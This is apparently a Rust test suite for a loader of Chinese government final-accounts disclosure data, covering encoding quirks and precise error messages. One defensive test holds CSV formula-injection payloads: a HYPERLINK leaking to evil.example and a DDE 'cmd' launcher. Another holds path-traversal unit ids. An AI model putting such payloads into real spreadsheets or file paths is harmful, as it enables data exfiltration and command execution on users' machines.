//! Every kind of bad input gets its clear Chinese message with file, row and column, all at
//! once; what real files contain (BOM, full-width digits, separators, dashes, GBK) is read.

use juesuan_load::load_dataset;
use juesuan_model::Problem;
use std::fs;
use std::path::Path;

const META: &str = r#"
[entity]
name = "测试局"
year = 2024
kind = "单位"
unit = "万元"

[[units]]
id = "u"
name = "测试局本级"
nature = "财政拨款的行政单位"

[facts."三公"]
"保有量" = 3

[reasons."上年决算"]
"T1/本年收入合计" = "业务量增加"
"#;

fn tables() -> Vec<(&'static str, String)> {
    vec![
        ("t1.csv", "项目,决算数\n一般公共预算财政拨款收入,10.00\n本年收入合计,10.00\n收入总计,10.00\n204,10.00\n本年支出合计,10.00\n支出总计,10.00\n".into()),
        ("t2.csv", "科目编码,科目名称,本年收入合计,财政拨款收入,上级补助收入,事业收入,经营收入,附属单位上缴收入,其他收入\n,合计,10,10,0,0,0,0,0\n".into()),
        ("t3.csv", "科目编码,科目名称,本年支出合计,基本支出,项目支出,上缴上级支出,经营支出,对附属单位补助支出\n,合计,10,10,0,0,0,0\n".into()),
        ("t4.csv", "项目,合计,一般公共预算财政拨款,政府性基金预算财政拨款,国有资本经营预算财政拨款\n本年收入合计,10,10,0,0\n".into()),
        ("t5.csv", "科目编码,科目名称,合计,基本支出,项目支出\n,合计,10,10,0\n204,公共安全支出,10,10,0\n20406,司法,10,10,0\n2040601,行政运行,10,10,0\n".into()),
        ("t6.csv", "科目编码,科目名称,决算数\n301,工资福利支出,10\n".into()),
        ("t7.csv", "项目,预算数,决算数\n合计,1,1\n".into()),
        ("t8.csv", "科目编码,科目名称,年初结转和结余,本年收入,本年支出合计,基本支出,项目支出,年末结转和结余\n".into()),
        ("t9.csv", "科目编码,科目名称,年初结转和结余,本年收入,本年支出合计,基本支出,项目支出,年末结转和结余\n".into()),
    ]
}

fn fixture() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("disclosure.toml"), META).unwrap();
    let u = dir.path().join("units/u");
    fs::create_dir_all(&u).unwrap();
    for (name, text) in tables() {
        fs::write(u.join(name), text).unwrap();
    }
    dir
}

fn problems(dir: &Path) -> Vec<Problem> {
    load_dataset(dir).expect_err("should not load")
}

fn one(dir: &Path) -> Problem {
    let p = problems(dir);
    assert_eq!(p.len(), 1, "{p:#?}");
    p.into_iter().next().unwrap()
}

fn write(dir: &Path, rel: &str, text: &str) {
    fs::write(dir.join(rel), text).unwrap();
}

#[test]
fn the_fixture_loads() {
    let d = fixture();
    let disc = load_dataset(d.path()).unwrap();
    assert_eq!(disc.units.len(), 1);
    assert_eq!(
        disc.units[0]
            .tables
            .get("T5")
            .unwrap()
            .get("2040601", "合计"),
        Some(10_000_000)
    );
    assert_eq!(disc.facts.get("三公.保有量", "本年"), Some(3));
    assert_eq!(
        disc.facts.get("三公.购置车辆数", "本年"),
        None,
        "a fact not given is not zero"
    );
}

#[test]
fn messy_real_world_cells_are_read_exactly() {
    let d = fixture();
    write(
        d.path(),
        "units/u/t5.csv",
        "\u{feff}科目编码 ,科目名称,合计（万元）,基本支出,项目支出\n\
         ,合计 ,\"1,234.56\",１２３４．５６,－\n\
         204,公共安全支出,1234.56 ,\"1,234.56\",-\n\
         20406 司法,,1234.56,1234.56,\n\
         2040601,行政运行  ,1234.56,1234.56,0\n",
    );
    let disc = load_dataset(d.path()).unwrap();
    let t5 = disc.units[0].tables.get("T5").unwrap();
    for row in ["合计", "204", "20406", "2040601"] {
        assert_eq!(t5.get(row, "合计"), Some(1_234_560_000), "{row}");
        assert_eq!(t5.get(row, "项目支出"), Some(0), "{row}");
    }
}

#[test]
fn gbk_files_from_excel_are_read() {
    let d = fixture();
    let (bytes, _, _) = encoding_rs::GBK.encode("项目,预算数,决算数\n合计,6.00,1.23\n");
    fs::write(d.path().join("units/u/t7.csv"), &bytes).unwrap();
    let disc = load_dataset(d.path()).unwrap();
    assert_eq!(
        disc.units[0]
            .tables
            .get("T7")
            .unwrap()
            .get("合计", "决算数"),
        Some(1_230_000)
    );
}

/// D7: one invalid byte appended to a UTF-8 table of the example is one problem naming the
/// file, the line and the character, not a GB18030 reading of the whole file.
#[test]
fn one_bad_byte_in_a_utf8_file_is_one_problem_at_the_byte() {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/chifeng-sfj-2024");
    let d = tempfile::tempdir().unwrap();
    let status = std::process::Command::new("cp")
        .arg("-r")
        .arg(&example)
        .arg(d.path().join("ds"))
        .status()
        .unwrap();
    assert!(status.success());
    let ds = d.path().join("ds");
    let t2 = ds.join("units/benji/t2.csv");
    let mut bytes = fs::read(&t2).unwrap();
    let lines = bytes.iter().filter(|b| **b == b'\n').count();
    bytes.push(0xff);
    fs::write(&t2, &bytes).unwrap();
    let p = one(&ds);
    assert_eq!(p.file, "units/benji/t2.csv");
    assert_eq!(p.row, Some(lines + 1), "{p}");
    assert!(p.message.contains("第1个字符处的字节 0xFF"), "{p}");
    assert!(p.message.contains("UTF-8"), "{p}");
    // the same byte in the middle of a Chinese name
    let text = fs::read_to_string(example.join("units/benji/t2.csv")).unwrap();
    let mut bytes = text.replacen("公共安全", "公共\u{0}安全", 1).into_bytes();
    let at = bytes.iter().position(|b| *b == 0).unwrap();
    bytes[at] = 0xfe;
    fs::write(&t2, &bytes).unwrap();
    let p = one(&ds);
    let line = text[..text.find("公共安全").unwrap()].matches('\n').count() + 1;
    let column = text[..text.find("公共安全").unwrap()]
        .rsplit('\n')
        .next()
        .unwrap()
        .chars()
        .count()
        + 3;
    assert_eq!(p.row, Some(line), "{p}");
    assert!(
        p.message
            .contains(&format!("第{column}个字符处的字节 0xFE")),
        "{p}"
    );
}

/// A GB18030 file with a byte that is not GB18030 either: the byte, not a garbled header.
#[test]
fn a_bad_byte_in_a_gbk_file_is_named_too() {
    let d = fixture();
    let (bytes, _, _) = encoding_rs::GBK.encode("项目,预算数,决算数\n合计,6.00,1.23");
    let mut bytes = bytes.into_owned();
    bytes.push(0xff);
    fs::write(d.path().join("units/u/t7.csv"), &bytes).unwrap();
    let p = one(d.path());
    assert_eq!((p.file.as_str(), p.row), ("units/u/t7.csv", Some(2)), "{p}");
    assert!(p.message.contains("GB18030"), "{p}");
    assert!(p.message.contains("第13个字符"), "{p}");
}

#[test]
fn missing_directory_and_metadata() {
    let p = one(Path::new("/nonexistent/dataset"));
    assert!(p.message.contains("不存在"), "{p}");
    let d = fixture();
    fs::remove_file(d.path().join("disclosure.toml")).unwrap();
    assert_eq!(
        one(d.path()).to_string(),
        "disclosure.toml：缺少 disclosure.toml（数据集的基本信息文件）"
    );
}

#[test]
fn toml_syntax_error_names_the_line() {
    let d = fixture();
    write(
        d.path(),
        "disclosure.toml",
        &META.replace("year = 2024", "year = = 2024"),
    );
    let p = one(d.path());
    assert_eq!(p.row, Some(4), "{p}");
    assert!(p.message.starts_with("TOML 语法错误"), "{p}");
}

#[test]
fn bad_metadata_values_are_named() {
    let d = fixture();
    write(
        d.path(),
        "disclosure.toml",
        &META
            .replace("unit = \"万元\"", "unit = \"千元\"")
            .replace("\"保有量\" = 3", "\"保有辆\" = 3"),
    );
    let p = problems(d.path());
    let msgs: Vec<String> = p.iter().map(ToString::to_string).collect();
    assert!(
        msgs.iter()
            .any(|m| m.contains("第6行") && m.contains("unit 应为“万元”或“元”，文件中为“千元”")),
        "{msgs:#?}"
    );
}

#[test]
fn unknown_fact_names_its_line_and_the_choices() {
    let d = fixture();
    write(
        d.path(),
        "disclosure.toml",
        &META.replace("\"保有量\" = 3", "\"保有辆\" = 3"),
    );
    let p = one(d.path());
    assert_eq!(p.row, Some(14), "{p}");
    assert!(p.message.contains("未知的补充信息“三公.保有辆”"), "{p}");
    assert!(p.message.contains("三公.保有量"), "{p}");
}

#[test]
fn a_missing_table_file_is_named() {
    let d = fixture();
    fs::remove_file(d.path().join("units/u/t5.csv")).unwrap();
    let p = one(d.path());
    assert_eq!(p.file, "units/u/t5.csv");
    assert!(
        p.message
            .contains("缺少表5（一般公共预算财政拨款支出决算表）的文件"),
        "{p}"
    );
}

#[test]
fn bad_cells_codes_and_names_are_all_reported_at_once() {
    let d = fixture();
    write(
        d.path(),
        "units/u/t5.csv",
        "科目编码,科目名称,合计,基本支出,项目支出\n\
         ,合计,10,10,0\n\
         2040601,行政运行,1O.00,10,0\n\
         2040698,不存在的项,1,1,0\n\
         2040612,行政运行,1,1,0\n\
         2040601,行政运行,1,1,0\n",
    );
    write(
        d.path(),
        "units/u/t7.csv",
        "项目,预算数,决算数\n合计,1,1\n招待费,1,1\n",
    );
    let p = problems(d.path());
    let msgs: Vec<String> = p.iter().map(ToString::to_string).collect();
    assert_eq!(msgs.len(), 5, "{msgs:#?}");
    assert_eq!(msgs[0], "units/u/t5.csv 第3行 “合计”列：“1O.00”不是数字");
    assert_eq!(
        msgs[1],
        "units/u/t5.csv 第4行 “科目编码”列：支出功能分类科目 2024 年没有编码“2040698”"
    );
    assert_eq!(msgs[2], "units/u/t5.csv 第5行 “科目编码”列：科目编码 2040612 的名称应为“法治建设”，文件中为“行政运行”");
    assert_eq!(
        msgs[3],
        "units/u/t5.csv 第6行 “科目编码”列：“2040601”重复出现（第3行已有）"
    );
    assert_eq!(
        msgs[4],
        "units/u/t7.csv 第3行 “项目”列：表7没有“招待费”这一行"
    );
}

#[test]
fn wrong_headers_list_what_is_allowed() {
    let d = fixture();
    write(
        d.path(),
        "units/u/t3.csv",
        "科目编码,科目名称,本年支出合计,基本支出,项目支出,上缴上级支出,经营支出\n",
    );
    let p = one(d.path());
    assert_eq!(p.file, "units/u/t3.csv");
    assert_eq!(p.row, Some(1));
    assert!(p.message.contains("缺少“对附属单位补助支出”列"), "{p}");
}

#[test]
fn economic_codes_outside_the_basic_table_are_refused() {
    let d = fixture();
    write(
        d.path(),
        "units/u/t6.csv",
        "科目编码,科目名称,决算数\n301,工资福利支出,10\n2040601,行政运行,1\n",
    );
    let p = one(d.path());
    assert!(
        p.message
            .contains("部门支出经济分类科目 2024 年没有编码“2040601”"),
        "{p}"
    );
}

#[test]
fn malformed_reason_keys_are_refused() {
    let d = fixture();
    write(
        d.path(),
        "disclosure.toml",
        &META.replace("\"T1/本年收入合计\"", "\"本年收入合计\""),
    );
    let p = one(d.path());
    assert!(
        p.message.contains("变动原因的键“本年收入合计”应为“表/行”"),
        "{p}"
    );
    assert_eq!(p.row, Some(17), "{p}");
}

#[test]
fn suggestions_are_accepted_but_are_not_reasons() {
    let d = fixture();
    let meta = format!(
        "{META}\n[suggestions.\"上年决算\"]\n\"T1/本年支出合计\" = \"主要是……\"\n[suggestions.\"年初预算\"]\n\"T5/2040601\" = \"主要是……\"\n"
    );
    write(d.path(), "disclosure.toml", &meta);
    let disc = load_dataset(d.path()).unwrap();
    assert!(!disc.reasons.prior.contains_key("T1/本年支出合计"));
    assert!(!disc.reasons.budget.contains_key("T5/2040601"));
    // a wrong shape is still reported
    write(
        d.path(),
        "disclosure.toml",
        &format!("{META}\n[suggestions.\"下年\"]\n\"T1/x\" = \"…\"\n"),
    );
    assert!(one(d.path()).message.contains("下年"));
}

/// A unit's own unit.toml: read with the department's entity; its problems name its path and
/// line; [entity] and [[units]] are the department's and not allowed there.
#[test]
fn unit_toml_is_read_and_its_problems_name_it() {
    let dir = fixture();
    let d = load_dataset(dir.path()).unwrap();
    let units = juesuan_load::unit_disclosures(dir.path(), &d).unwrap();
    assert_eq!(units.len(), 1);
    assert_eq!(units[0].entity.name, "测试局本级");
    assert!(
        units[0]
            .reasons
            .against("上年决算")
            .is_none_or(|m| m.is_empty()),
        "no unit.toml: no reasons"
    );

    fs::write(
        dir.path().join("units/u/unit.toml"),
        "[facts]\n\"机构运行经费\" = \"1.00\"\n[reasons.\"上年决算\"]\n\"T1/本年收入合计\" = \"本单位业务量增加\"\n",
    )
    .unwrap();
    let units = juesuan_load::unit_disclosures(dir.path(), &d).unwrap();
    assert_eq!(units[0].facts.get("机构运行经费", "本年"), Some(1_000_000));
    assert_eq!(
        units[0].reasons.against("上年决算").unwrap()["T1/本年收入合计"],
        "本单位业务量增加"
    );

    fs::write(
        dir.path().join("units/u/unit.toml"),
        "[entity]\nname = \"x\"\n",
    )
    .unwrap();
    let problems = juesuan_load::unit_disclosures(dir.path(), &d).unwrap_err();
    let text: Vec<String> = problems.iter().map(Problem::to_string).collect();
    assert_eq!(text, ["units/u/unit.toml 第1行：未知的部分“entity”"]);

    fs::write(
        dir.path().join("units/u/unit.toml"),
        "# 本级\n\n[facts]\n\"机构运行经费\" = \"abc\"\n",
    )
    .unwrap();
    let problems = juesuan_load::unit_disclosures(dir.path(), &d).unwrap_err();
    let text: Vec<String> = problems.iter().map(Problem::to_string).collect();
    assert!(
        text.iter()
            .any(|p| p.starts_with("units/u/unit.toml 第4行") && p.contains("机构运行经费")),
        "{text:?}"
    );
}

#[test]
fn names_a_spreadsheet_would_run_as_formulas_are_refused() {
    // D4: these reach the open-data CSV (entity, unit_name) and file names.
    let d = fixture();
    let meta = META
        .replace(
            "name = \"测试局\"",
            "name = \"=HYPERLINK('http://evil.example/?leak','点击查看')\"",
        )
        .replace("name = \"测试局本级\"", "name = \"+cmd|' /C calc'!A0\"");
    write(d.path(), "disclosure.toml", &meta);
    let p = problems(d.path());
    assert_eq!(p.len(), 2, "{p:#?}");
    assert!(p[0].message.contains("[entity] name"), "{}", p[0].message);
    assert!(p[0].message.contains("以“=”开头"), "{}", p[0].message);
    assert!(p[0].message.contains("公式"), "{}", p[0].message);
    assert_eq!(p[0].file, "disclosure.toml");
    assert_eq!(p[0].row, Some(3));
    assert!(p[1].message.contains("[units] name"), "{}", p[1].message);
    assert!(p[1].message.contains("以“+”开头"), "{}", p[1].message);
    assert_eq!(p[1].row, Some(10));
    for bad in ["-1+1", "@SUM(A1)"] {
        write(
            d.path(),
            "disclosure.toml",
            &META.replace("name = \"测试局\"", &format!("name = \"{bad}\"")),
        );
        assert!(one(d.path()).message.contains("不能以 = + - @"));
    }
    // a name with such a character elsewhere is fine
    write(
        d.path(),
        "disclosure.toml",
        &META.replace("name = \"测试局\"", "name = \"测试局-A=B\""),
    );
    assert_eq!(load_dataset(d.path()).unwrap().entity.name, "测试局-A=B");
}

#[test]
fn unit_ids_are_plain_directory_names() {
    // D3: a unit id is a directory of the dataset and of `build --units` output.
    let d = fixture();
    for bad in ["../../x", "/tmp/x", "a/b", "..", "-x", "名称"] {
        write(
            d.path(),
            "disclosure.toml",
            &META.replace("id = \"u\"", &format!("id = \"{bad}\"")),
        );
        let p = problems(d.path());
        assert!(
            p.iter()
                .any(|p| p.message.contains(&format!("单位 id“{bad}”只能由"))),
            "{bad}: {p:#?}"
        );
    }
}

/// What the fuzz harness found without a line: a year with no 口径, a section that only opens
/// as a sub-table, a key of an inline table.
#[test]
fn a_year_without_a_template_and_unknown_keys_name_their_lines() {
    let d = fixture();
    write(
        d.path(),
        "disclosure.toml",
        &META.replace("year = 2024", "year = 2044"),
    );
    let p = one(d.path());
    assert_eq!(p.row, Some(4), "{p}");
    assert!(p.message.contains("不支持 2044 年度的口径"), "{p}");

    write(
        d.path(),
        "disclosure.toml",
        &META.replace("[facts.\"三公\"]", "[f-acts.\"三公\"]"),
    );
    let p = problems(d.path());
    let unknown = p
        .iter()
        .find(|p| p.message.contains("未知的部分“f-acts”"))
        .unwrap_or_else(|| panic!("{p:#?}"));
    assert_eq!(unknown.row, Some(13), "{unknown}");

    write(
        d.path(),
        "disclosure.toml",
        &format!("projects = [{{ name = \"x\", budge1 = \"1\" }}]{META}"),
    );
    let p = problems(d.path());
    let unknown = p
        .iter()
        .find(|p| p.message.contains("未知的项“budge1”"))
        .unwrap_or_else(|| panic!("{p:#?}"));
    assert_eq!(unknown.row, Some(1), "{unknown}");
}
